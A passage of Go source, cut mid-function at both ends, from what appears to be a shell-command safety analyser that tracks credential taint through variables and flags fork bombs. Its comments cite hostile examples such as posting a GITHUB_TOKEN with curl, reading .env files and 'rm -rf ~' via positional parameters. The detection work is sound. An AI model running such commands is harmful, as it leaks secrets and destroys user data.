			if i+2 < len(c.Args) && c.Args[i+2].Lit() == "errexit" {
				on = v == "-o"
			}
		case len(v) > 1 && (v[0] == '-' || v[0] == '+') && v[1] != '-' && strings.IndexByte(v, 'e') > 0:
			on = v[0] == '-'
		}
	}
	return on
}

// callOf is s's simple command, or nil.
func callOf(s *syntax.Stmt) *syntax.CallExpr {
	c, _ := s.Cmd.(*syntax.CallExpr)
	return c
}

// movesFolder reports whether c is a cd, pushd or popd.
func movesFolder(c *syntax.CallExpr) bool {
	if len(c.Args) == 0 {
		return false
	}
	switch c.Args[0].Lit() {
	case "cd", "pushd", "popd":
		return true
	}
	return false
}

// endsScript reports whether s ends the script or, in a function (in),
// the function: exit, or return in a function, alone or last in a group
// ({ echo no; exit 1; }).
func endsScript(s *syntax.Stmt, in bool) bool {
	for i := 0; i < 8 && s != nil; i++ {
		switch c := s.Cmd.(type) {
		case *syntax.CallExpr:
			if len(c.Args) == 0 {
				return false
			}
			n := c.Args[0].Lit()
			return n == "exit" || n == "return" && in
		case *syntax.Block:
			if len(c.Stmts) == 0 {
				return false
			}
			s = c.Stmts[len(c.Stmts)-1]
		default:
			return false
		}
	}
	return false
}

// maxRenameRounds bounds the rewritings of a script's command names (an
// alias naming another alias is a round more).
const maxRenameRounds = 4

// nesting nodes count towards the depth bound.
func nesting(n syntax.Node) bool {
	switch n.(type) {
	case *syntax.Subshell, *syntax.Block, *syntax.IfClause, *syntax.WhileClause,
		*syntax.ForClause, *syntax.CaseClause, *syntax.FuncDecl, *syntax.CmdSubst,
		*syntax.ProcSubst, *syntax.ArithmExp, *syntax.ArithmCmd, *syntax.ParamExp,
		*syntax.TestClause:
		return true
	}
	return false
}

// funcDefs tells, for a script's text, whether it may define a function
// of a given name: only then is what a call of that name is given worth
// reading (the pre-pass's called, read for the functions it defines). A
// definition is its name, blanks and '(' (f(), f ( )), or follows the word
// function; a line continuation, which the parser drops from the name,
// may hide either, so a script that holds one may define any name. The
// text is read once, on the first question.
type funcDefs struct {
	src  string
	read bool
	any  bool  // the word function or a line continuation is in src
	ends []int // the offsets where blanks and then '(' start
}

func (d *funcDefs) may(name string) bool {
	if !d.read {
		d.read = true
		d.any = strings.Contains(d.src, "function") || strings.Contains(d.src, "\\\n")
		for i := 0; i < len(d.src); i++ {
			if d.src[i] != '(' {
				continue
			}
			k := i
			for k > 0 && (d.src[k-1] == ' ' || d.src[k-1] == '\t') {
				k--
			}
			d.ends = append(d.ends, k)
		}
	}
	if d.any {
		return true
	}
	for _, k := range d.ends {
		if strings.HasSuffix(d.src[:k], name) {
			return true
		}
	}
	return false
}

// fnInfo is a function definition seen by the pre-pass.
type fnInfo struct {
	name  string
	calls map[string]bool // callee -> some call of it spawns a process
}

// prepass checks nesting depth, collects variables and functions and finds
// fork bombs. It reports false when the script is over the bounds, and
// renamed when a command's name is written otherwise than bash reads it
// (see plainNames).
func (r *run) prepass(sc *scope, f *syntax.File, kept map[int]bool) (ok, renamed bool) {
	var stack []bool
	var aliases map[string]string // defined so far, with static text
	depth := 0
	ok = true
	var fns []*fnInfo
	var funcs []bool // per node on the stack: a function definition
	inFunc := 0      // function definitions around the node
	// defined is the command readInto gave its variable a value (the
	// statement is visited just before its command).
	var defined *syntax.CallExpr
	var stmt *syntax.Stmt // the statement last visited, whose command may follow
	// called are the credentials given as arguments to commands that may
	// be functions the script defines, by command name (f "$TOKEN").
	var called map[string]string
	defs := funcDefs{src: sc.src}
	walkTree(f, func(n syntax.Node) bool {
		if n == nil {
			if stack[len(stack)-1] {
				depth--
			}
			stack = stack[:len(stack)-1]
			if funcs[len(funcs)-1] {
				inFunc--
			}
			funcs = funcs[:len(funcs)-1]
			return true
		}
		if !ok || !r.step() {
			ok = false
			return false
		}
		_, fn := n.(*syntax.FuncDecl)
		funcs = append(funcs, fn)
		if fn {
			inFunc++
		}
		nest := nesting(n)
		stack = append(stack, nest)
		if nest {
			depth++
			if depth > r.a.maxDepth {
				r.tooComplex(fmt.Sprintf("the command nests deeper than %d", r.a.maxDepth))
				ok = false
				return false
			}
		}
		switch n := n.(type) {
		case *syntax.Stmt:
			stmt = n
			if inFunc == 0 {
				defined = r.readInto(sc, n)
			}
			if wc, ok := n.Cmd.(*syntax.WhileClause); ok && len(n.Redirs) > 0 {
				// while read l; do ...; done < .env: each line it reads
				// holds what the file holds.
				r.taintLoopReads(sc, wc, n.Redirs)
			}
		case *syntax.BinaryCmd:
			if wc, ok := n.Y.Cmd.(*syntax.WhileClause); ok && (n.Op == syntax.Pipe || n.Op == syntax.PipeAll) {
				r.taintLoopReads(sc, wc, n.X) // cat .env | while read l
			}
		case *syntax.WhileClause:
			if endless(n) && spawnsUnwaited(n.Do) {
				r.add(Finding{Rule: ruleForkBomb, Kind: Command, Severity: Block,
					Detail:  "an endless loop starts a background process on every pass and never waits: a fork bomb",
					Command: bound(r.nodeText(sc, n))})
			}
		case *syntax.FuncDecl:
			if n.Name != nil && n.Body != nil {
				d := &fnInfo{name: n.Name.Value, calls: map[string]bool{}}
				collectCalls(n.Body, d.calls)
				fns = append(fns, d)
				if sc.funcs == nil {
					sc.funcs = map[string]*syntax.FuncDecl{}
				}
				if _, twice := sc.funcs[n.Name.Value]; twice {
					sc.funcs[n.Name.Value] = nil // which one runs depends on the order
				} else {
					sc.funcs[n.Name.Value] = n
				}
			}
		case *syntax.CallExpr:
			if !renamed {
				_, renamed = callNameEdit(n, aliases, kept)
			}
			aliases = aliasDefs(n, aliases)
			name := ""
			if len(n.Args) > 0 {
				name = n.Args[0].Lit()
			}
			for _, as := range n.Assigns {
				if as.Name != nil && as.Name.Value == "GLOBIGNORE" {
					r.dotglob = true // setting GLOBIGNORE makes * match dot files
				}
			}
			// zsh reads option names without regard to case or underscores
			// (setopt GLOB_DOTS) and also takes them from set -o.
			// bash -O dotglob -c '...' sets it for the script it runs.
			if len(n.Args) > 0 && (name == "shopt" || name == "setopt" || name == "set" || shells[base(name)]) {
				for _, w := range n.Args[1:] {
					switch strings.ReplaceAll(asciiLower(w.Lit()), "_", "") {
					case "dotglob", "globdots":
						r.dotglob = true
					case "nocaseglob":
						r.nocaseglob = true
					case "globskipdots":
						if name == "shopt" && n.Args[1].Lit() == "-s" {
							r.skipDots = true
						}
					}
				}
			}
			if len(n.Args) > 1 && expandsAny(n.Args[1:]) {
				if isName(name) && called[name] == "" && defs.may(name) {
					if secret := r.stmtSecret(sc, nil, n); secret != "" {
						if called == nil {
							called = map[string]string{}
						}
						called[name] = secret
					}
				}
			}
			if len(n.Args) == 0 {
				for _, as := range n.Assigns {
					r.assign(sc, as, false)
				}
			} else if name == "set" {
				r.setPositional(sc, n, inFunc > 0)
			} else if name == "shift" {
				r.shiftPositional(sc, n, inFunc > 0, around(f, n))
			} else if name == "eval" && slices.ContainsFunc(n.Args[1:], func(w *syntax.Word) bool { return identIn(w.Lit(), "shift") }) {
				r.shiftPositional(sc, n, inFunc > 0, nil) // eval shift: where it runs is not read
			} else if taintingCommands[name] && n != defined {
				// A variable read, mapfile or printf -v fills from a
				// credential holds it (read t <<< "$TOKEN").
				secret := r.stmtSecret(sc, stmt, n)
				for _, w := range n.Args[1:] {
					l := w.Lit()
					if i := strings.IndexByte(l, '='); i > 0 {
						l = l[:i]
					}
					if isName(l) {
						sc.taintWith(l, secret)
					}
				}
			}
		case *syntax.DeclClause:
			variant := ""
			if n.Variant != nil {
				variant = n.Variant.Value
			}
			// declare -n (typeset -n, local -n) makes each name a reference
			// to the variable its value names: its value is not that text.
			_, nameref := declOptions(n)
			set, unset := declCase(n)
			for _, as := range n.Args {
				if as.Name != nil && (set != 0 || unset) {
					sc.setCase(as.Name.Value, set)
				}
				local := (variant == "local" || variant == "declare" && as.Naked) && inFunc > 0
				if nameref && !local && r.reference(sc, as) {
					continue
				}
				// A local in a function body holds only there; in a body
				// judged on its own (a call's, see simple) it is plain.
				r.assign(sc, as, nameref || local)
				if nameref && as.Name != nil && as.Value != nil && isName(as.Value.Lit()) {
					// A reference to a credential reads it (declare -n
					// t=GITHUB_TOKEN; curl -d "$t" ...).
					sc.taintWith(as.Name.Value, r.credential(sc, as.Value.Lit(), as.Pos().Offset()))
					sc.refer(as.Name.Value, as.Value.Lit())
				}
			}
		case *syntax.ForClause:
			if wi, ok := n.Loop.(*syntax.WordIter); ok && wi.Name != nil {
				// for l in $(cat .env): each item holds what its words
				// carry.
				secret := ""
				for _, w := range wi.Items {
					if c := r.credentials(sc, w, nil); len(c) > 0 {
						secret = c[0]
						break
					}
				}
				sc.taintWith(wi.Name.Value, secret)
			}
			if c, ok := n.Loop.(*syntax.CStyleLoop); ok && c.Cond == nil && spawnsUnwaited(n.Do) {
				r.add(Finding{Rule: ruleForkBomb, Kind: Command, Severity: Block,
					Detail:  "an endless loop starts a background process on every pass and never waits: a fork bomb",
					Command: bound(r.nodeText(sc, n))})
			}
		case *syntax.ParamExp:
			if n.Exp != nil && n.Param != nil && (n.Exp.Op == syntax.AssignUnset || n.Exp.Op == syntax.AssignUnsetOrNull) {
				sc.taint(n.Param.Value)
			}
		case *syntax.BinaryArithm:
			// Assgn sorts after the compound assignments (+= to **=) in
			// syntax's operator order, so it is named on its own. Bash
			// has += to >>=; the rest are other shells' and kept for them.
			if n.Op == syntax.Assgn || n.Op >= syntax.AddAssgn && n.Op <= syntax.PowAssgn {
				if w, ok := n.X.(*syntax.Word); ok {
					sc.arithTaint(w.Lit(), n.Op != syntax.Assgn)
				}
			}
		case *syntax.UnaryArithm:
			if n.Op == syntax.Inc || n.Op == syntax.Dec {
				if w, ok := n.X.(*syntax.Word); ok {
					sc.arithTaint(w.Lit(), true)
				}
			}
		}
		return true
	})
	if !ok {
		return false, false
	}
	for name, secret := range called {
		if fd := sc.funcs[name]; fd != nil {
			// A function called with a credential has it as $1, "$@",
			// ...: its body's parameters hold it, as far as the analyser
			// knows, wherever they are read, and so do the variables its
			// body assigns from them (local t=$1; see
			// docs/security-model.md).
			for _, p := range positionalNames {
				if p != "#" {
					sc.taintWith(p, secret)
				}
			}
			walkTree(fd.Body, func(n syntax.Node) bool {
				if as, ok := n.(*syntax.Assign); ok && as.Name != nil {
					if c := r.credentials(sc, as, nil); len(c) > 0 {
						sc.taintWith(as.Name.Value, c[0])
					}
				}
				return true
			})
		}
	}
	byName := make(map[string]*fnInfo, len(fns))
	for _, d := range fns {
		byName[d.name] = d
	}
	for _, d := range fns {
		if reachesSpawning(d.name, byName) {
			r.add(Finding{Rule: ruleForkBomb, Kind: Command, Severity: Block,
				Detail:  fmt.Sprintf("function %q calls itself in a pipeline or in the background: a fork bomb", d.name),
				Command: bound(d.name + "() { ... }")})
		}
	}
	return true, renamed
}

// endless reports whether a while or until loop's condition is a constant
// that never ends it: while true, while :, until false, while ((1)).
func endless(w *syntax.WhileClause) bool {
	if len(w.Cond) != 1 {
		return false
	}
	switch c := w.Cond[0].Cmd.(type) {
	case *syntax.CallExpr:
		if len(c.Args) != 1 || len(c.Assigns) > 0 {
			return false
		}
		switch c.Args[0].Lit() {
		case "true", ":":
			return !w.Until
		case "false":
			return w.Until
		}
	case *syntax.ArithmCmd:
		if x, ok := c.X.(*syntax.Word); ok && !w.Until {
			l := x.Lit()
			return l != "" && strings.Trim(l, "0123456789") == "" && strings.Trim(l, "0") != ""
		}
	}
	return false
}

// spawnsUnwaited reports whether a loop body starts a command in the
// background and has no break, exit, return or wait to end or pace the
// loop (functions defined inside it are not followed).
func spawnsUnwaited(body []*syntax.Stmt) bool {
	background, paced := false, false
	for _, st := range body {
		syntax.Walk(st, func(n syntax.Node) bool {
			switch n := n.(type) {
			case *syntax.FuncDecl:
				return false
			case *syntax.Stmt:
				background = background || n.Background || n.Coprocess
			case *syntax.CallExpr:
				if len(n.Args) > 0 {
					switch n.Args[0].Lit() {
					case "break", "exit", "return", "wait":
						paced = true
					}
				}
				background = background || detaches(n)
			}
			return true
		})
	}
	return background && !paced
}

// detachWrappers run the command that follows them, in the foreground.
var detachWrappers = map[string]bool{"sudo": true, "doas": true, "nohup": true, "command": true, "exec": true, "env": true, "nice": true, "ionice": true, "time": true, "chronic": true}

// detaches reports whether a command starts a program that runs on after
// it returns, as a command in the background does: setsid -f, systemd-run
// without --wait, --scope or a terminal, tmux new -d, new-window and
// split-window, screen -dm, docker/podman/nerdctl run -d, dtach -n,
// daemonize, start-stop-daemon -b. Words are read as written.
func detaches(call *syntax.CallExpr) bool {
	args := make([]string, 0, len(call.Args))
	for _, w := range call.Args {
		args = append(args, w.Lit())
	}
	for len(args) > 0 && (detachWrappers[base(args[0])] || strings.Contains(args[0], "=") || strings.HasPrefix(args[0], "-") || isDigits(args[0])) {
		args = args[1:]
	}
	if len(args) == 0 {
		return false
	}
	cluster := func(letter byte) bool {
		return slices.ContainsFunc(args[1:], func(a string) bool {
			return len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.IndexByte(a, letter) > 0
		})
	}
	word := func(ws ...string) bool {
		return slices.ContainsFunc(args[1:], func(a string) bool { return slices.Contains(ws, a) })
	}
	switch base(args[0]) {
	case "setsid":
		return word("-f", "--fork") || cluster('f')
	case "systemd-run":
		return !word("--wait", "-W", "--scope", "-t", "--pty", "-P", "--pipe", "--shell", "-S")
	case "tmux":
		return word("new-window", "neww", "split-window", "splitw") || word("new", "new-session") && cluster('d')
	case "screen":
		return cluster('d') && cluster('m')
	case "docker", "podman", "nerdctl":
		return word("run") && (word("--detach") || cluster('d'))
	case "dtach":
		return word("-n")
	case "daemonize":
		return true
	case "start-stop-daemon":
		return word("--background") || cluster('b')
	}
	return false
}

// taintingCommands set shell variables named by their arguments.
var taintingCommands = map[string]bool{
	"read": true, "mapfile": true, "readarray": true, "getopts": true, "unset": true,
	"let": true, "printf": true, "export": true, "declare": true, "typeset": true,
	"local": true, "readonly": true, "select": true,
}

// collectCalls records the commands body may call and whether a call
// spawns a process (in a pipeline, a substitution or the background).
func collectCalls(body syntax.Node, calls map[string]bool) {
	var stack []bool
	walkTree(body, func(n syntax.Node) bool {
		if n == nil {
			stack = stack[:len(stack)-1]
			return true
		}
		spawn := len(stack) > 0 && stack[len(stack)-1]
		switch n := n.(type) {
		case *syntax.Stmt:
			spawn = spawn || n.Background || n.Coprocess
		case *syntax.BinaryCmd:
			spawn = spawn || n.Op == syntax.Pipe || n.Op == syntax.PipeAll
		case *syntax.CmdSubst, *syntax.ProcSubst:
			spawn = true
		case *syntax.CallExpr:
			if len(n.Args) > 0 {
				name := n.Args[0].Lit()
				calls[name] = calls[name] || spawn
			}
			shellScriptCalls(n, calls)
		}
		stack = append(stack, spawn)
		return true
	})
}

// shellScriptCalls records the commands of a script a shell runs with -c
// (bash -c f, nohup bash -c 'f & f'): a new shell is a new process, and a
// function the script exports (export -f) is one of its commands.
func shellScriptCalls(call *syntax.CallExpr, calls map[string]bool) {
	for i := 0; i+2 < len(call.Args); i++ {
		if !shells[base(call.Args[i].Lit())] {
			continue
		}
		for j := i + 1; j+1 < len(call.Args); j++ {
			o := call.Args[j].Lit()
			if len(o) < 2 || o[0] != '-' || o[1] == '-' {
				break
			}
			if !strings.Contains(o, "c") {
				continue
			}
			text, ok := staticText(call.Args[j+1])
			if !ok || len(text) > 4096 {
				return
			}
			f, err := syntax.NewParser().Parse(strings.NewReader(text), "")
			if err != nil {
				return
			}
			syntax.Walk(f, func(n syntax.Node) bool {
				if c, ok := n.(*syntax.CallExpr); ok && len(c.Args) > 0 {
					calls[c.Args[0].Lit()] = true
				}
				return true
			})
			return
		}
	}
}

// reachesSpawning reports whether start reaches itself through a chain of
// calls of which at least one spawns a process.
func reachesSpawning(start string, byName map[string]*fnInfo) bool {
	type state struct {
		name  string
		spawn bool
	}
	seen := map[state]bool{}
	todo := []state{{start, false}}
	for len(todo) > 0 {
		s := todo[len(todo)-1]
		todo = todo[:len(todo)-1]
		d := byName[s.name]
		if d == nil {
			continue
		}
		for callee, sp := range d.calls {
			next := state{callee, s.spawn || sp}
			if callee == start && next.spawn {
				return true
			}
			if !seen[next] {
				seen[next] = true
				todo = append(todo, next)
			}
		}
	}
	return false
}

func isName(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c != '_' && !isLetter(c) && (i == 0 || c < '0' || c > '9') {
			return false
		}
	}
	return true
}

// arithTaint makes a variable an arithmetic expression assigns unknown.
// One that reads the variable first (x++, x += 1) evaluates its value
// before then: that value is kept for evaluated (see arith.go).
func (sc *scope) arithTaint(name string, reads bool) {
	if d, ok := sc.vars[name]; reads && ok && !d.tainted && !d.array {
		if sc.arithWas == nil {
			sc.arithWas = map[string]string{}
		}
		sc.arithWas[name] = d.value
	}
	sc.taint(name)
}

// taint makes a variable unknown. A credential it was given stays with
// it: which value holds where depends on the order the commands run in,
// so the safer reading keeps it (see docs/security-model.md).
func (sc *scope) taint(name string) {
	sc.taintWith(name, "")
}

// taintWith makes a variable unknown, holding the credential secret (when
// not "") besides any it held.
func (sc *scope) taintWith(name, secret string) {
	if name != "" {
		sc.setVar(name, varDef{tainted: true, secret: cmp.Or(secret, sc.vars[name].secret)})
	}
}

// stmtSecret returns the first credential a command carries in its
// arguments or redirections (a here-string, a process substitution it
// reads), "" when none: what read, mapfile, set or printf -v may copy
// into variables. s is the statement last visited, call's own when
// s.Cmd is call.
func (r *run) stmtSecret(sc *scope, s *syntax.Stmt, call *syntax.CallExpr) string {
	var names []string
	for _, w := range call.Args[1:] {
		names = r.credentials(sc, w, names)
	}
	if s != nil && s.Cmd == call {
		for _, rd := range s.Redirs {
			if rd.Hdoc != nil {
				names = r.credentials(sc, rd.Hdoc, names)
			}
			names = r.credentials(sc, rd, names) // its word, and a file it reads (read x < .env)
		}
	}
	if len(names) == 0 {
		return ""
	}
	return names[0]
}

func (sc *scope) setVar(name string, d varDef) {
	if sc.vars == nil {
		sc.vars = map[string]varDef{}
	}
	sc.vars[name] = d
	if t, ok := sc.refs[name]; ok && t != name {
		// A value given through a reference is its target's: the target
		// is not known from then on (a tainted variable stays so), and
		// holds any credential given.
		sc.vars[t] = varDef{tainted: true, secret: cmp.Or(d.secret, sc.vars[t].secret)}
	}
}

// setPositional records the positional parameters set -- ARGS (or set
// followed by a word that is not an option) gives the script: $1 to $9,
// "$@" and "$*" hold what they hold after it when every argument is known,
// as a function call's do (set -- ~; rm -rf "$1" is rm -rf ~). Set a
// second time, or inside a function, they are not known.
func (r *run) setPositional(sc *scope, n *syntax.CallExpr, inFunc bool) {
	args := n.Args[1:]
	i := 0
	for i < len(args) {
		l := args[i].Lit()
		if l == "--" {
			i++
			break
		}
		if l == "" || l[0] != '-' && l[0] != '+' {
			break
		}
		if strings.IndexByte(l, 'o') > 0 && i+1 < len(args) {
			i++ // set -o NAME, set -euo NAME: the name is the option's value (set -o alone lists them)
		}
		i++
	}
	if i == len(args) && (len(args) == 0 || args[len(args)-1].Lit() != "--") {
		return // options only: the parameters stay
	}
	params := r.words(sc, args[i:])
	_, again := sc.vars["@"]
	if inFunc || again || slices.ContainsFunc(params, func(f field) bool { return f.dyn || strings.Contains(f.val, "\x00") }) {
		// set -- "$TOKEN" makes $1 and "$@" the credential.
		var secret []string
		for _, w := range args[i:] {
			secret = r.credentials(sc, w, secret)
		}
		for _, name := range positionalNames {
			if len(secret) > 0 && name != "#" {
				sc.taintWith(name, secret[0])
			} else {
				sc.taint(name)
			}
		}
		return
	}
	after := n.End().Offset()
	vals := fieldVals(params)
	all := strings.Join(vals, "\x00")
	sc.setVar("@", varDef{value: all, after: after})
	sc.setVar("*", varDef{value: all, after: after})
	sc.setVar("#", varDef{value: strconv.Itoa(len(vals)), after: after})
	for k, name := range positionalNames[3:] {
		v := ""
		if k < len(vals) {
			v = vals[k]
		}
		sc.setVar(name, varDef{value: v, after: after})
	}
}

// at is the definition that holds at offset pos: d, or a later one.
func (d varDef) at(pos uint) varDef {
	for d.later != nil && pos >= d.later.after {
		d = *d.later
	}
	return d
}

// shiftPositional records shift [N]: from the shift on, $1 is what $N+1
// was, "$@" and $# lose the first N (set -- z ~; shift; rm -rf "$1" is
// rm -rf ~), and before it they keep their values. Parameters not known,
// a count not known, or a shift that may run or not or more than once
// (maybe: in a branch, a loop, after && or through eval) leave them not
// known from the shift on. A count
// past the parameters makes shift fail and change nothing, and a shift in
// a function moves the function's own.
func (r *run) shiftPositional(sc *scope, n *syntax.CallExpr, inFunc bool, around []syntax.Node) {
	after := n.End().Offset()
	maybe, until := shiftReach(around)
	k := -1
	switch {
	case len(n.Args) == 1:
		k = 1
	case len(n.Args) == 2 && isDigits(n.Args[1].Lit()) && len(n.Args[1].Lit()) < 4:
		k, _ = strconv.Atoi(n.Args[1].Lit())
	}
	all, known := sc.lookup("@", after)
	vals := strings.Split(all, "\x00")
	if all == "" {
		vals = nil
	}
	shifted := map[string]varDef{}
	if inFunc {
		// A function's shift moves the function's own parameters, which
		// its calls are judged with (see simple); the script's stay.
		return
	}
	if !known || k < 0 || maybe {
		for _, name := range positionalNames {
			shifted[name] = varDef{tainted: true, after: after}
		}
	} else {
		if k > len(vals) {
			return
		}
		vals = vals[k:]
		rest := strings.Join(vals, "\x00")
		shifted["@"] = varDef{value: rest, after: after}
		shifted["*"] = varDef{value: rest, after: after}
		shifted["#"] = varDef{value: strconv.Itoa(len(vals)), after: after}
		for i, name := range positionalNames[3:] {
			v := ""
			if i < len(vals) {
				v = vals[i]
			}
			shifted[name] = varDef{value: v, after: after}
		}
	}
	for name, d := range shifted {
		old, ok := sc.vars[name]
		if !ok {
			// An inherited parameter (sh -c SCRIPT NAME ARGS), or none.
			v, inherited := sc.inherit[name]
			old = varDef{value: v, tainted: !inherited}
		}
		last := &old
		for last.later != nil {
			last = last.later
		}
		if until > 0 && !d.tainted {
			d.later = &varDef{tainted: true, after: until} // past the construct, it may have run or not
		}
		last.later = &d
		sc.setVar(name, old)
	}
}

// around returns the nodes from f down to n, n last (nil when n is not
// in f). Only a shift asks it, so that no walk keeps the stack.
func around(f *syntax.File, n syntax.Node) []syntax.Node {
	var stack, found []syntax.Node
	walkTree(f, func(m syntax.Node) bool {
		if m == nil {
			stack = stack[:len(stack)-1]
			return true
		}
		stack = append(stack, m)
		if m == n {
			found = slices.Clone(stack)
		}
		return found == nil
	})
	return found
}

// shiftReach says where a shift's effect is known, from the nodes around
// it (its statement and that statement's list owner last): a statement
// of the script's own list moves the parameters for the rest of the
// script; one of a group, a subshell, a branch or a loop of one item for
// the rest of that construct only (until its end), after which they are
// not known, since it may have run or not; any other (after && or ||, in
// a loop of several items, through eval: around nil) may run or not, or
// more than once (maybe).
func shiftReach(around []syntax.Node) (maybe bool, until uint) {
	if len(around) < 3 {
		return true, 0
	}
	if _, ok := around[len(around)-2].(*syntax.Stmt); !ok {
		return true, 0
	}
	switch p := around[len(around)-3].(type) {
	case *syntax.File:
		return false, 0
	case *syntax.Block, *syntax.Subshell, *syntax.IfClause, *syntax.CaseItem:
		return false, p.End().Offset()
	case *syntax.ForClause:
		if wi, ok := p.Loop.(*syntax.WordIter); ok && len(wi.Items) == 1 && wi.Items[0].Lit() != "" {
			return false, p.End().Offset()
		}
	}
	return true, 0
}

// positionalNames are the parameters set -- gives: "$@", "$*", $# and
// $1 to $9.
var positionalNames = []string{"@", "*", "#", "1", "2", "3", "4", "5", "6", "7", "8", "9"}

// assign records a shell variable assignment seen by the pre-pass.
func (r *run) assign(sc *scope, as *syntax.Assign, taint bool) {
	if as == nil || as.Name == nil {
		return
	}
	name := as.Name.Value
	if as.Naked && !taint {
		return // export NAME keeps the value
	}
	if as.Array != nil && !taint && !as.Append && as.Index == nil {
		if vals, ok := r.arrayElements(sc, as.Array); ok {
			sc.define(name, varDef{value: strings.Join(vals, "\x00"), array: true, after: as.End().Offset()})
			return
		}
	}
	if taint || as.Append || as.Index != nil || as.Array != nil || as.Value == nil {
		// An array's element or an appended value may be a credential
		// (a=("$TOKEN"), a+=("$T")): the variable holds it.
		secret := ""
		if c := r.credentials(sc, as, nil); len(c) > 0 {
			secret = c[0]
		}
		sc.taintWith(name, secret)
		return
	}
	f := r.assignValue(sc, as.Value)
	if f.dyn && f.why == whySplit {
		// An assignment does not split: x=$(echo 'a b') holds "a b", as
		// the same word in double quotes does.
		if q, ok := unsplitWord(as.Value); ok {
			if g := r.word(sc, q); !g.dyn {
				f = g
			}
		}
	}
	if param, ok := plainParam(as.Value); ok && f.dyn {
		// An assignment does not split: x=$1 holds $1 whole.
		if v, ok := r.knownValue(sc, param, as.Value.Pos().Offset()); ok {
			f = field{val: v}
		}
	}
	if !f.dyn {
		sc.define(name, varDef{value: f.val, after: as.End().Offset()})
		return
	}
	// A variable once given the environment holds it from then on, as far
	// as the analyser knows.
	old := sc.vars[name]
	secret := old.secret
	if c := r.credentials(sc, as.Value, nil); len(c) > 0 {
		secret = c[0]
	}
	why := old.why
	if why != whyEnviron && (f.why == whyEnviron || pidsWhy(f.why) || r.found[f.why] != nil) {
		why = f.why
	}
	sc.setVar(name, varDef{tainted: true, why: why, secret: secret})
}

// unsplitWord returns w in double quotes, which expands as w does as an
// assignment's value: without splitting or patterns. A literal part with a
// backslash or a tilde reads otherwise in quotes, and reports false.
func unsplitWord(w *syntax.Word) (*syntax.Word, bool) {
	for _, p := range w.Parts {
		if l, ok := p.(*syntax.Lit); ok && strings.ContainsAny(l.Value, "\\~") {
			return nil, false
		}
	}
	return &syntax.Word{Parts: []syntax.WordPart{&syntax.DblQuoted{Left: w.Pos(), Right: w.End(), Parts: w.Parts}}}, true
}

// reference gives a name reference (declare -n r=NAME) the value its
// target holds where it is declared, when that is known: reading "$r"
// reads NAME (declare -n r=HOME; rm -rf "$r" is rm -rf ~). It reports
// false when the target or its value is not known; the caller then makes
// the reference unknown.
func (r *run) reference(sc *scope, as *syntax.Assign) bool {
	if as.Name == nil || as.Value == nil || as.Append || as.Index != nil {
		return false
	}
	target := as.Value.Lit()
	if !isName(target) {
		return false
	}
	// The target's value as an expansion reads it (HOME's is the home
	// folder unless the script sets it).
	var f field
	env := exEnv{r: r, sc: sc, pos: as.Pos().Offset(), f: &f}
	v := env.Get(target)
	if !v.IsSet() || f.dyn || v.Kind != expand.String {
		return false
	}
	sc.define(as.Name.Value, varDef{value: v.Str, after: as.End().Offset()})
	sc.refer(as.Name.Value, target)
	return true
}

// refer records that name is a reference to target: a value given to name
// later is target's (declare -n r=X; r=~ sets X), so target is then not
// known.
func (sc *scope) refer(name, target string) {
	if sc.refs == nil {
		sc.refs = map[string]string{}
	}
	sc.refs[name] = target
}

// define records a static value of a variable, which holds after d.after:
// a second, different value makes the variable unknown, since which one
// holds where depends on the order the commands run in.
func (sc *scope) define(name string, d varDef) {
	if c := sc.cased[name]; c != 0 && !d.tainted {
		// declare -l and -u: the value is given in that case, which only
		// ASCII letters have regardless of the locale.
		if !isASCII(d.value) {
			sc.taint(name)
			return
		}
		if c == 'l' {
			d.value = strings.ToLower(d.value)
		} else {
			d.value = strings.ToUpper(d.value)
		}
	}
	old, seen := sc.vars[name]
	switch {
	case !seen:
		sc.setVar(name, d)
	case old.tainted || old.value != d.value || old.array != d.array:
		sc.taint(name)
	}
}

// setCase gives name the case attribute c ('l', 'u'), or takes it away
// (0).
func (sc *scope) setCase(name string, c byte) {
	if c == 0 {
		delete(sc.cased, name)
		return
	}
	if sc.cased == nil {
		sc.cased = map[string]byte{}
	}
	sc.cased[name] = c
}

// declCase reads the case attributes a declare, typeset or local sets: set
// is 'l' for -l, 'u' for -u and 0 for neither (bash sets neither when both
// are given); unset says +l or +u takes the attribute away.
func declCase(d *syntax.DeclClause) (set byte, unset bool) {
	lower, upper := false, false
	for _, as := range d.Args {
		if !as.Naked || as.Name != nil || as.Value == nil {
			continue
		}
		l := as.Value.Lit()
		if len(l) < 2 || l[0] != '-' && l[0] != '+' || l == "--" {
			continue
		}
		on := l[0] == '-'
		if strings.ContainsAny(l[1:], "lu") && !on {
			unset = true
		}
		lower = lower || on && strings.IndexByte(l, 'l') > 0
		upper = upper || on && strings.IndexByte(l, 'u') > 0
	}
	switch {
	case lower && !upper:
		return 'l', unset
	case upper && !lower:
		return 'u', unset
	}
	return 0, unset || lower && upper
}

// arrayElements returns the elements of an indexed array's literal
// (arr=(~ /tmp)) when each is known and none is a pattern or a subscripted
// one.
func (r *run) arrayElements(sc *scope, a *syntax.ArrayExpr) ([]string, bool) {
	words := make([]*syntax.Word, 0, len(a.Elems))
	for _, el := range a.Elems {
		if el.Index != nil || el.Value == nil {
			return nil, false
		}
		words = append(words, el.Value)
	}
	fs := r.words(sc, words)
	vals := make([]string, 0, len(fs))
	for _, f := range fs {
		if f.dyn || f.glob || strings.Contains(f.val, "\x00") {
			return nil, false
		}
		vals = append(vals, f.val)
	}
	return vals, true
}

// readInto gives a variable the value a statement assigns it, when the
// analyser knows it, and returns the statement's command then: read NAME
// (or read -r NAME) from a here-string, whose first line, trimmed of
// blanks, it takes, mapfile -t NAME (readarray) from one, an element per
// line, and printf -v NAME FORMAT ARGS, whose output it takes. Other forms
// of read, mapfile and printf leave their variables unknown.
func (r *run) readInto(sc *scope, s *syntax.Stmt) *syntax.CallExpr {
	call, ok := s.Cmd.(*syntax.CallExpr)
	if !ok || len(call.Args) < 2 || len(call.Assigns) > 0 && call.Args[0].Lit() != "read" {
		return nil
	}
	args := call.Args[1:]
	var name, val string
	switch call.Args[0].Lit() {
	case "read":
		// read [-r] NAME..., read [-r] -a NAME <<< TEXT: the first line,
		// split at the blanks of IFS (its default, or blanks given to
		// this read alone: IFS=' ' read ...; the script's own IFS is not
		// followed): each name a word, the last the rest of the line;
		// -a's array every word. Separators given to this read that are
		// not blanks (IFS=, read a b) each end a field.
		seps := " \t\n"
		if len(call.Assigns) > 0 {
			as := call.Assigns[0]
